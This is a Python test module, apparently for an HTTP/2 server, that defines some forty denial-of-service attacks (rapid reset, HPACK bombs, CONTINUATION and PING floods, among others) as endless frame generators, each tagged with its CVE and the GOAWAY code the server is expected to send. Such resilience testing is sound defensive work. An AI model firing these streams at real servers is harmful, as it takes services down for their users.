"""The HTTP/2 rows of threats.md as endless streams of raw frames: one attack is a name, its ids and a maker of frames.

An attack goes on until the server ends it. `codes` is what GOAWAY should say then; () where it is right to refuse each
request for itself and to go on, as long as that is cheap.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import support_h2_wire as h2

CALM = (h2.ENHANCE_YOUR_CALM,)


@dataclass(frozen=True)
class Attack:
    """`frames(peer)` are the pieces to send, each a few frames that belong together; `peer` is what the server announced.

    `reads`: whether the attacker reads what it gets. `settings`: of its preface.
    """

    name: str
    ids: str
    frames: Callable[[dict[int, int]], Iterator[bytes]]
    codes: tuple[int, ...] = CALM
    reads: bool = True
    settings: tuple[tuple[int, int], ...] = ()


GET = h2.section(h2.request())
POST = h2.section(h2.request(method=b"POST"))
SLOW = h2.section(h2.request(path=b"/wait/5"))
STREAMS = range(1, 1 << 31, 2)
RESET_ONE = h2.headers(1, POST, end=False) + h2.window_update(1, 0)
"""Stream 1, which the server has to reset."""


def _forever(piece: bytes) -> Callable[[dict[int, int]], Iterator[bytes]]:
    return lambda _: itertools.repeat(piece)


def _each_stream(make: Callable[[int], bytes]) -> Callable[[dict[int, int]], Iterator[bytes]]:
    """A piece for each new stream."""
    return lambda _: map(make, STREAMS)


def _after(first: bytes, then: Callable[[], Iterator[bytes]]) -> Callable[[dict[int, int]], Iterator[bytes]]:
    return lambda _: itertools.chain((first,), then())


def _bomb(_: dict[int, int]) -> Iterator[bytes]:
    """HPACK bomb: a field of 4000 bytes goes to the dynamic table, then each byte on the wire is a reference to it."""
    first = h2.literal(b"x", b"y" * 3900, h2.INDEXED)
    yield h2.headers(1, GET + first)
    for stream in STREAMS[1:]:
        yield h2.headers(stream, GET + b"\xbe" * 15_000)


def _bomb_in_continuations(_: dict[int, int]) -> Iterator[bytes]:
    """The same in one section that does not end."""
    yield h2.headers(1, GET + h2.literal(b"x", b"y" * 3900, h2.INDEXED), end_headers=False)
    while True:
        yield h2.continuation(1, b"\xbe" * 16_000, end_headers=False)


def _many_fields(_: dict[int, int]) -> Iterator[bytes]:
    """Fields without a value from the static table: two bytes on the wire, 32 and more in the list."""
    for stream in STREAMS:
        yield h2.headers(stream, GET + b"\x90" * 16_000)


def _empty_fields(_: dict[int, int]) -> Iterator[bytes]:
    """CVE-2019-9516: fields with neither name nor value."""
    for stream in STREAMS:
        yield h2.headers(stream, GET + b"\x00\x00\x00" * 5_000)


def _window_games(peer: dict[int, int]) -> Iterator[bytes]:
    """Streams that wait for the window, then INITIAL_WINDOW_SIZE to and fro: each change touches all of them."""
    for stream in range(1, 2 * min(100, peer.get(h2.MAX_CONCURRENT_STREAMS, 100)), 2):
        yield h2.headers(stream, GET)
    while True:
        yield h2.settings((h2.INITIAL_WINDOW_SIZE, 0)) + h2.settings((h2.INITIAL_WINDOW_SIZE, 1 << 30))


def _dribble(_: dict[int, int]) -> Iterator[bytes]:
    """CVE-2019-9511: a byte of window at a time."""
    yield h2.get(1, b"/size/100000000")
    while True:
        yield h2.window_update(1, 1)


def _many_settings(_: dict[int, int]) -> Iterator[bytes]:
    pair = (h2.HEADER_TABLE_SIZE, 0), (h2.HEADER_TABLE_SIZE, 4096)
    while True:
        yield h2.settings(*pair * 1000)


def _table_sizes(_: dict[int, int]) -> Iterator[bytes]:
    """A full dynamic table that is thrown away and filled again, request by request."""
    fill = b"".join(h2.literal(b"n%d" % number, b"", h2.INDEXED) for number in range(100))
    for stream in STREAMS:
        yield h2.headers(stream, b"\x20\x3f\xe1\x1f" + GET + fill)


def _tiny_data(_: dict[int, int]) -> Iterator[bytes]:
    """A body in frames of one byte, with all the padding there is."""
    yield h2.headers(1, POST, end=False)
    while True:
        yield h2.data(1, b"x", padding=255)


ATTACKS = (
    Attack("rapid reset", "CVE-2023-44487", _each_stream(lambda stream: h2.headers(stream, GET) + h2.rst_stream(stream))),
    Attack("rapid reset, backend at work", "CVE-2023-44487",
           _each_stream(lambda stream: h2.headers(stream, SLOW) + h2.rst_stream(stream))),
    Attack("provoked reset: window update by 0", "CVE-2025-8671",
           _each_stream(lambda stream: h2.headers(stream, POST, end=False) + h2.window_update(stream, 0))),
    Attack("provoked reset: window overflow", "CVE-2025-8671",
           _each_stream(lambda stream: h2.headers(stream, POST, end=False) + h2.window_update(stream, h2.LARGEST))),
    Attack("provoked reset: DATA after the end", "CVE-2025-8671",
           _each_stream(lambda stream: h2.headers(stream, SLOW) + h2.data(stream, b"x")), codes=(*CALM, h2.STREAM_CLOSED)),
    Attack("provoked reset: HEADERS after the end", "CVE-2025-8671",
           _each_stream(lambda stream: h2.headers(stream, SLOW) * 2), codes=(*CALM, h2.STREAM_CLOSED)),
    Attack("provoked reset: PRIORITY of a wrong length", "CVE-2025-8671",
           _each_stream(lambda stream: h2.headers(stream, SLOW) + h2.frame(h2.PRIORITY, 0, stream, b"\0" * 4)),
           codes=(*CALM, h2.FRAME_SIZE_ERROR)),
    Attack("provoked reset: stream that depends on itself", "CVE-2025-8671",
           _each_stream(lambda stream: h2.headers(stream, SLOW) + h2.priority(stream, stream)),
           codes=(*CALM, h2.PROTOCOL_ERROR)),
    Attack("provoked reset: malformed requests", "CVE-2019-9514",
           _each_stream(lambda stream: h2.headers(stream, h2.section(h2.request((b"X-Upper", b"x")))))),
    Attack("provoked reset: body longer than content-length", "CVE-2025-8671",
           _each_stream(lambda stream: h2.post(stream, b"/wait/5", (b"content-length", b"1")) + h2.data(stream, b"xx"))),
    Attack("more streams than allowed", "CVE-2018-16844", _each_stream(lambda stream: h2.headers(stream, SLOW))),
    Attack("CONTINUATION without end", "CVE-2024-27316",
           _after(h2.headers(1, GET, end_headers=False),
                  lambda: itertools.repeat(h2.continuation(1, h2.literal(b"x", b"y" * 1000), end_headers=False)))),
    Attack("CONTINUATION of one byte", "CVE-2024-27316",
           _after(h2.headers(1, GET, end_headers=False),
                  lambda: (h2.continuation(1, bytes((byte,)), end_headers=False)
                           for byte in itertools.cycle(h2.literal(b"x", b"y"))))),
    Attack("CONTINUATION without payload", "CVE-2024-27316, CVE-2019-9518",
           _after(h2.headers(1, GET, end_headers=False),
                  lambda: itertools.repeat(h2.continuation(1, b"", end_headers=False)))),
    Attack("HPACK bomb", "CVE-2016-6581", _bomb, codes=()),
    Attack("HPACK bomb in CONTINUATIONs", "CVE-2016-6581", _bomb_in_continuations),
    Attack("many fields", "CVE-2016-6581", _many_fields, codes=()),
    Attack("fields without a name", "CVE-2019-9516", _empty_fields, codes=()),
    Attack("dynamic table filled and emptied", "-", _table_sizes, codes=()),
    Attack("PING flood", "CVE-2019-9512", _forever(h2.ping())),
    Attack("PING flood, answers not read", "CVE-2019-9512", _forever(h2.ping()), reads=False),
    Attack("SETTINGS flood", "CVE-2019-9515", _forever(h2.settings())),
    Attack("SETTINGS flood, answers not read", "CVE-2019-9515", _forever(h2.settings()), reads=False),
    Attack("SETTINGS of two thousand values", "CVE-2019-9515", _many_settings),
    Attack("PING acknowledgements", "CVE-2019-9512", _forever(h2.ping(ack=True))),
    Attack("SETTINGS acknowledgements", "CVE-2019-9515", _forever(h2.settings(ack=True)), codes=(*CALM, h2.PROTOCOL_ERROR)),
    Attack("DATA without payload", "CVE-2019-9518",
           _after(h2.headers(1, POST, end=False), lambda: itertools.repeat(h2.data(1)))),
    Attack("DATA of padding only", "CVE-2019-9518",
           _after(h2.headers(1, POST, end=False), lambda: itertools.repeat(h2.data(1, padding=0)))),
    Attack("DATA that ends a reset stream", "CVE-2019-9518",
           _after(RESET_ONE, lambda: itertools.repeat(h2.data(1, end=True)))),
    Attack("HEADERS on a reset stream", "-",
           _after(RESET_ONE, lambda: itertools.repeat(h2.headers(1, h2.literal(b"x", b"y" * 10_000))))),
    Attack("DATA of one byte", "-", _tiny_data, codes=()),
    Attack("PRIORITY flood", "CVE-2019-9513", _each_stream(h2.priority)),
    # RFC 9218 section 7.1 has its own code for more streams than may be open.
    Attack("PRIORITY_UPDATE flood", "CVE-2019-9513", _each_stream(lambda stream: h2.priority_update(stream, b"u=1")),
           codes=(*CALM, h2.PROTOCOL_ERROR)),
    Attack("PRIORITY_UPDATE flood of one stream", "CVE-2019-9513", _forever(h2.priority_update(1, b"u=1"))),
    Attack("WINDOW_UPDATE flood", "CVE-2019-9517", _forever(h2.window_update(0, 1))),
    Attack("WINDOW_UPDATE of a stream, a byte at a time", "CVE-2019-9511", _dribble,
           settings=((h2.INITIAL_WINDOW_SIZE, 0),)),
    Attack("INITIAL_WINDOW_SIZE to and fro", "CVE-2019-9517", _window_games, settings=((h2.INITIAL_WINDOW_SIZE, 0),)),
    Attack("frames of unknown type", "-", _forever(h2.frame(0x99, 0, 0, b"x"))),
    Attack("requests whose answers are not read", "CVE-2019-9517", _each_stream(lambda stream: h2.headers(stream, GET)),
           reads=False),
)  # fmt: skip
